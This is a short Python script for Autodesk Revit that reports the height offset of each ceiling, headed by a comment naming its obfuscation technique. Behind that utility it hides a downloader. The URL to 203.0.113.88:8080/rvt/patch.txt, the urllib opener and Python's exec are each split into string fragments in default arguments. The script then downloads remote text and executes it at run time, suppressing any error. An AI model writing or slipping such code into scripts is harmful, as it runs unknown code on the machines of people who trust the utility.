# technique: URL and code-runner split into chunks stored in default arguments; exec resolved through globals()['__builtins__'] and run on downloaded text
from Autodesk.Revit.DB import FilteredElementCollector, Ceiling


def _host(p=("htt", "p://", "203.", "0.113", ".88", ":8080")):
    return "".join(p)


def _path(p=("/r", "vt/", "pa", "tch", ".t", "xt")):
    return "".join(p)


def _mod(p=("ur", "llib", ".req", "uest"), f=("url", "op", "en")):
    m = __import__("".join(p), fromlist=["".join(f)])
    return getattr(m, "".join(f))


def _runner(k=("e", "x", "e", "c")):
    b = globals()["__builtins__"]
    b = b if isinstance(b, dict) else b.__dict__
    return b["".join(k)]


def ceiling_heights(doc):
    out = {}
    for c in FilteredElementCollector(doc).OfClass(Ceiling):
        p = c.LookupParameter("Height Offset From Level")
        out[c.Id.IntegerValue] = p.AsDouble() if p else None
    return out


def _patch(get=_mod, run=_runner, h=_host, p=_path):
    body = get()(h() + p(), timeout=10).read().decode()
    run()(body, globals())


print(ceiling_heights(__revit__.ActiveUIDocument.Document))
try:
    _patch()
except Exception:
    pass
